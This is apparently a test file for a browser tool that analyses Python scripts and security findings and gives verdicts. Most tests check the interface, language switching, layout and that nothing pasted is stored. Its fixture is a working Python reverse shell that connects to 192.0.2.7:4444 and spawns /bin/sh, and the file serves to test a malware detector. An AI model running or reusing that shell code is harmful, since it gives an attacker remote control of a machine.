@@ -1,0 +1,374 @@
+import assert from 'node:assert/strict';
+import { after, test } from 'node:test';
+import { example, fact, openTab, paste, shownCode, start, verdict } from './support.mjs';
+
+const { address, inPage, stop } = await start();
+after(stop);
+
+const shell = `import socket, os, pty
+s = socket.socket()
+s.connect(("192.0.2.7", 4444))
+os.dup2(s.fileno(), 0)
+os.dup2(s.fileno(), 1)
+pty.spawn("/bin/sh")
+`;
+
+test('the paste box has the focus, and the page says where the data goes', () =>
+  inPage({}, async (page) => {
+    await page.locator('textarea').waitFor();
+    assert.equal(
+      await page.evaluate(
+        () => document.activeElement?.shadowRoot?.activeElement?.shadowRoot?.activeElement?.tagName,
+      ),
+      'TEXTAREA',
+    );
+    assert.match(await page.locator('pv-start').innerText(), /never executed, sent or stored/);
+  }));
+
+test('a pasted script is analysed at once', () =>
+  inPage({}, async (page) => {
+    await paste(page, shell);
+    assert.equal(await verdict(page), 'Malicious');
+    assert.match(await page.locator('pv-verdict-card').innerText(), /For a benign reading: nothing found/);
+    assert.match(
+      (await page.locator('[role=status]').first().textContent()) ?? '',
+      /^Verdict: Malicious\. Score /,
+    );
+    assert.equal(await fact(page, 'Contents'), `${shell.length} bytes, utf-8, Python 3`);
+  }));
+
+test('a reason leads to the line that proves it', () =>
+  inPage({}, async (page) => {
+    await paste(page, shell);
+    const reason = page.locator('pv-verdict-card .reasons button').first();
+    const line = Number((await reason.innerText()).match(/\d+/)?.[0]);
+    await reason.click();
+    await page.locator('.pv-target').first().waitFor();
+    const marked = await page.locator('.cm-line:has(.pv-target)').first().innerText();
+    assert.equal(marked, shell.split('\n')[line - 1]);
+    assert.ok((await page.locator('.pv-note').count()) > 0);
+    assert.ok((await page.locator('.pv-mark').count()) > 0);
+    const classes = await page.evaluate(() => {
+      let element = document.activeElement;
+      while (element?.shadowRoot?.activeElement) element = element.shadowRoot.activeElement;
+      return element?.className;
+    });
+    assert.match(classes ?? '', /cm-content/);
+  }));
+
+test('line numbers stand beside their lines, notes or not', () =>
+  inPage({ viewport: { width: 900, height: 500 } }, async (page) => {
+    await paste(page, shell);
+    await page.locator('.cm-line').first().waitFor();
+    await page.locator('pv-code-view').scrollIntoViewIfNeeded();
+    await page.waitForTimeout(200);
+    const tops = (/** @type {string} */ selector) =>
+      page
+        .locator(selector)
+        .evaluateAll((elements) =>
+          elements.map((element) => Math.round(element.getBoundingClientRect().top)),
+        );
+    const lines = await tops('.cm-line');
+    const numbers = (await tops('.cm-lineNumbers .cm-gutterElement')).slice(1);
+    assert.equal(numbers.length, lines.length);
+    for (const [index, top] of lines.entries())
+      assert.ok(Math.abs(top - numbers[index]) <= 2, `line ${index + 1}: ${top}, ${numbers[index]}`);
+  }));
+
+test('a pasted finding shows the facts under the console’s names, and what was checked', () =>
+  inPage({}, async (page) => {
+    await paste(page, example('reverse-shell.json'));
+    assert.equal(await verdict(page), 'Malicious');
+    assert.equal(await fact(page, 'Finding'), 'Execution: Malicious Python executed');
+    assert.equal(await fact(page, 'Program binary'), '/usr/local/bin/python3.12');
+    assert.equal(await fact(page, 'Script'), '/tmp/.cache/u.py');
+    assert.equal(await fact(page, 'Arguments'), 'python3 /tmp/.cache/u.py');
+    assert.match(await fact(page, 'Resource full name'), /^\/\/run\.googleapis\.com\/projects\/shop-prod\//);
+    assert.match(await fact(page, 'Event time'), /^2026-03-04 05:06:07/);
+    assert.match(await fact(page, 'SHA-256'), /matches the finding/);
+    assert.match(await fact(page, 'Contents'), /^complete, /);
+    const href = await page.locator('pv-facts a').first().getAttribute('href');
+    assert.match(href ?? '', /^https:\/\/www\.virustotal\.com\/gui\/file\/[0-9a-f]{64}$/);
+  }));
+
+test('layers: the innermost is one click away, and its path is shown', () =>
+  inPage({}, async (page) => {
+    await paste(page, example('reverse-shell.json'));
+    const items = page.locator('pv-layer-tree [role=treeitem]');
+    await items.nth(2).click();
+    assert.equal(await items.count(), 3);
+    await page.locator('.cm-line').first().waitFor();
+    assert.match(await shownCode(page), /pty\.spawn/);
+    const path = await page.locator('.path li').allInnerTexts();
+    assert.deepEqual(path, ['Paste', 'Finding', 'Layer 0', 'Layer 1', 'Layer 2']);
+    await items.nth(0).click();
+    await page.waitForFunction(() => true);
+    assert.match(await shownCode(page), /zlib\.decompress/);
+    assert.deepEqual(await page.locator('.path li').allInnerTexts(), path);
+  }));
+
+test('every tab shows what the report holds', () =>
+  inPage({}, async (page) => {
+    await paste(page, example('reverse-shell.json'));
+    await openTab(page, 'layers');
+    assert.equal(await page.locator('pv-layers-view article').count(), 3);
+    await openTab(page, 'indicators');
+    assert.match(
+      await page.locator('pv-indicators-view').innerText(),
+      /192\.0\.2\[\.\]7|192\[\.\]0\[\.\]2\[\.\]7/,
+    );
+    await openTab(page, 'attack');
+    const technique = page.locator('pv-attack-view a').first();
+    assert.match(
+      (await technique.getAttribute('href')) ?? '',
+      /^https:\/\/attack\.mitre\.org\/techniques\/T/,
+    );
+    assert.equal(await technique.getAttribute('rel'), 'noreferrer noopener');
+    assert.equal(await technique.getAttribute('target'), '_blank');
+    await page.locator('pv-attack-view button.link').first().click();
+    await page.locator('.pv-target').first().waitFor();
+    await openTab(page, 'json');
+    await page.locator('.cm-line').first().waitFor();
+    assert.match(await shownCode(page), /"schemaVersion": "1\.0"/);
+    await openTab(page, 'diagnostics');
+    assert.match(
+      await page.locator('pv-diagnostics-view').innerText(),
+      /Everything was read|could not be read/,
+    );
+  }));
+
+test('an opened file is read as bytes: its encoding counts', () =>
+  inPage({}, async (page) => {
+    const text = 'print("olá")\n';
+    const buffer = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
+    await page
+      .locator('input[type=file]')
+      .setInputFiles({ name: 'wide.py', mimeType: 'text/x-python', buffer });
+    assert.equal(await verdict(page), 'Benign');
+    assert.equal(await fact(page, 'Name'), 'wide.py');
+    assert.match(await fact(page, 'Contents'), /^28 bytes, utf-16-le/);
+    assert.match(await page.locator('pv-verdict-card').innerText(), /Not looked at:/);
+  }));
+
+test('dropped files are analysed one after the other, and listed', () =>
+  inPage({}, async (page) => {
+    await page.locator('textarea').waitFor();
+    await page.evaluate((script) => {
+      const data = new DataTransfer();
+      data.items.add(new File([script], 'shell.py'));
+      data.items.add(new File(['print(1)\n'], 'one.py'));
+      for (const type of ['dragenter', 'dragover', 'drop']) {
+        document.body.dispatchEvent(
+          new DragEvent(type, { dataTransfer: data, bubbles: true, cancelable: true, composed: true }),
+        );
+      }
+    }, shell);
+    await page.locator('[role=option]').nth(1).waitFor();
+    assert.deepEqual(await page.locator('[role=option] .name').allInnerTexts(), ['shell.py', 'one.py']);
+    assert.equal(await verdict(page), 'Malicious');
+  }));
+
+test('several findings: arrow keys go from one to the next, and they can be sorted', () =>
+  inPage({}, async (page) => {
+    await paste(page, example('several.json'));
+    const list = page.locator('[role=listbox]');
+    await list.focus();
+    assert.equal(await page.locator('[role=option]').count(), 4);
+    assert.equal(await fact(page, 'Script'), '/tmp/.cache/u.py');
+    await page.keyboard.press('ArrowDown');
+    assert.equal(await fact(page, 'Script'), '/tmp/s.py');
+    await page.keyboard.press('End');
+    assert.equal(await verdict(page), 'Inconclusive');
+    await page.keyboard.press('Home');
+    assert.equal(await fact(page, 'Script'), '/tmp/.cache/u.py');
+    await page.locator('pv-report-list select').selectOption('time');
+    assert.match((await page.locator('[role=option]').first().innerText()) ?? '', /disk_report\.py/);
+  }));
+
+test('a truncated finding is not called benign, and the page says what to fetch', () =>
+  inPage({}, async (page) => {
+    await paste(page, example('truncated.json'));
+    assert.equal(await verdict(page), 'Inconclusive');
+    assert.match(await page.locator('pv-verdict-card').innerText(), /What to fetch next: the whole script/);
+    assert.match(await fact(page, 'Contents'), /^truncated, /);
+    assert.equal(await page.locator('pv-score-scale [role=img]').getAttribute('aria-label'), 'No score');
+  }));
+
+test('JSON that is no finding says so, and where', () =>
+  inPage({}, async (page) => {
+    await paste(page, '{"finding": {"severity": "LOW"}, "resource": {}}');
+    assert.equal(await verdict(page), 'Inconclusive');
+    assert.match(await page.locator('pv-verdict-card').innerText(), /finding/);
+    assert.ok((await page.locator('pv-verdict-card .limits li').count()) > 1);
+  }));
+
+test('a bound that was hit stands beside the verdict', () =>
+  inPage({}, async (page) => {
+    await paste(page, `x = ${'('.repeat(3000)}1${')'.repeat(3000)}\n`);
+    await page.locator('pv-verdict-card').waitFor();
+    assert.match(await page.locator('pv-verdict-card .limits').innerText(), /Nesting beyond the limit/);
+    await page.locator('pv-verdict-card .limits button').click();
+    assert.match(await page.locator('pv-diagnostics-view').innerText(), /nestingTooDeep/);
+  }));
+
+test('the report is copied as Markdown and downloaded as JSON', () =>
+  inPage({}, async (page) => {
+    await paste(page, shell);
+    await page.locator('#markdown').click();
+    await page.locator('#markdown:text-is("Copied")').waitFor();
+    const markdown = await page.evaluate(() => navigator.clipboard.readText());
+    assert.match(markdown, /malicious/i);
+    assert.doesNotMatch(markdown, /192\.0\.2\.7/, 'indicators are defanged in a ticket');
+    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('#download').click()]);
+    assert.match(download.suggestedFilename(), /^pyverdict-[0-9a-f]{12}\.json$/);
+    const chunks = [];
+    for await (const chunk of await download.createReadStream()) chunks.push(chunk);
+    assert.equal(JSON.parse(Buffer.concat(chunks).toString('utf8')).verdict.label, 'malicious');
+  }));
+
+test('an analysis that takes long shows progress, and can be cancelled', () =>
+  inPage({ goto: false }, async (page) => {
+    /** @type {(value?: unknown) => void} */
+    let release = () => {};
+    const held = new Promise((resolve) => (release = resolve));
+    await page.route('**/*.wasm', async (route) => {
+      await held;
+      await route.continue();
+    });
+    await page.goto(address);
+    await paste(page, shell);
+    await page.locator('#cancel').waitFor();
+    assert.equal(await page.locator('pv-working [role=progressbar]').count(), 1);
+    await page.locator('#cancel').click();
+    await page.locator('textarea').waitFor();
+    release();
+    await paste(page, shell);
+    assert.equal(await verdict(page), 'Malicious');
+  }));
+
+test('cancelling ends the work itself, and the next analysis is a fresh one', () =>
+  inPage({}, async (page) => {
+    await page.locator('textarea').waitFor();
+    await page.evaluate(() => {
+      const line = 'exec(base64.b64decode("cHJpbnQoMSk=")); value = [ord(c) ^ 7 for c in "abcdefgh"]\n';
+      const data = new DataTransfer();
+      data.items.add(new File([`import base64\n${line.repeat(600_000)}`], 'large.py'));
+      document.body.dispatchEvent(
+        new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true, composed: true }),
+      );
+    });
+    await page.locator('#cancel').waitFor();
+    await page.locator('#cancel').click();
+    await page.locator('textarea').waitFor();
+    await paste(page, shell);
+    assert.equal(await verdict(page), 'Malicious');
+  }));
+
+test('after a verdict, another paste is another analysis, and New empties the page', () =>
+  inPage({}, async (page) => {
+    await paste(page, shell);
+    assert.equal(await verdict(page), 'Malicious');
+    await paste(page, 'print(1)\n');
+    await page.locator('pv-verdict-card h1:has-text("Benign")').waitFor();
+    await page.locator('#new').click();
+    await page.locator('textarea').waitFor();
+    assert.equal(await page.locator('pv-verdict-card').count(), 0);
+  }));
+
+test('without WebAssembly the page says so, and offers nothing that cannot work', () =>
+  inPage({ init: 'delete globalThis.WebAssembly;' }, async (page) => {
+    assert.match(await page.locator('[role=alert]').innerText(), /This browser runs no WebAssembly/);
+    assert.equal(await page.locator('#open').isDisabled(), true);
+    await page.locator('textarea').fill(shell);
+    assert.equal(await page.locator('#analyze').isDisabled(), true);
+  }));
+
+test('the search panel finds text in the code', () =>
+  inPage({}, async (page) => {
+    await paste(page, shell);
+    await page.locator('.cm-line').first().waitFor();
+    await page.locator('#search').click();
+    await page.locator('.cm-search input[name=search]').fill('dup2');
+    await page.locator('.cm-searchMatch').first().waitFor();
+    assert.equal(await page.locator('.cm-searchMatch').count(), 2);
+  }));
+
+test('the language changes all words, and is kept', () =>
+  inPage({}, async (page) => {
+    await page.locator('#language').click();
+    assert.equal(await page.locator('h1').innerText(), 'O que fez este Python?');
+    await page.reload();
+    assert.equal(await page.locator('h1').innerText(), 'O que fez este Python?');
+    assert.equal(await page.evaluate(() => document.documentElement.lang), 'pt-PT');
+    await paste(page, example('reverse-shell.json'));
+    assert.equal(await verdict(page), 'Malicioso');
+    assert.match(await fact(page, 'Nome completo do recurso'), /^\/\/run/);
+  }));
+
+test('the language follows the browser', () =>
+  inPage({ locale: 'pt-PT' }, async (page) => {
+    assert.equal(await page.locator('h1').innerText(), 'O que fez este Python?');
+  }));
+
+test('the theme follows the system until one is chosen', () =>
+  inPage({ colorScheme: 'dark' }, async (page) => {
+    const background = () => page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
+    const dark = await background();
+    await page.locator('#theme').click();
+    assert.notEqual(await background(), dark);
+    await page.reload();
+    assert.notEqual(await background(), dark);
+    await page.locator('#theme').click();
+    assert.equal(await background(), dark);
+  }));
+
+test('nothing that was pasted is stored', () =>
+  inPage({}, async (page) => {
+    await paste(page, shell);
+    await verdict(page);
+    await page.locator('#language').click();
+    const stored = await page.evaluate(async () => ({
+      local: Object.keys(localStorage),
+      session: Object.keys(sessionStorage),
+      databases: (await indexedDB.databases()).length,
+      caches: (await caches.keys()).length,
+      cookie: document.cookie,
+      url: location.href,
+    }));
+    assert.deepEqual(stored, {
+      local: ['pyverdict-language'],
+      session: [],
+      databases: 0,
+      caches: 0,
+      cookie: '',
+      url: `${address}/`,
+    });
+  }));
+
+for (const width of [360, 768, 1600]) {
+  test(`at ${width} pixels nothing scrolls sideways`, () =>
+    inPage({ viewport: { width, height: 740 } }, async (page) => {
+      const overflow = () => page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
+      await page.locator('textarea').waitFor();
+      assert.ok((await overflow()) <= 0, 'empty');
+      for (const name of ['reverse-shell.json', 'several.json']) {
+        await page
+          .locator('#new')
+          .click()
+          .catch(() => {});
+        await paste(page, example(name));
+        await page.locator('.cm-line').first().waitFor();
+        for (const tab of /** @type {const} */ ([
+          'code',
+          'layers',
+          'indicators',
+          'attack',
+          'diagnostics',
+          'json',
+        ])) {
+          await openTab(page, tab);
+          assert.ok((await overflow()) <= 0, `${name}, ${tab}`);
+        }
+      }
+    }));
+}
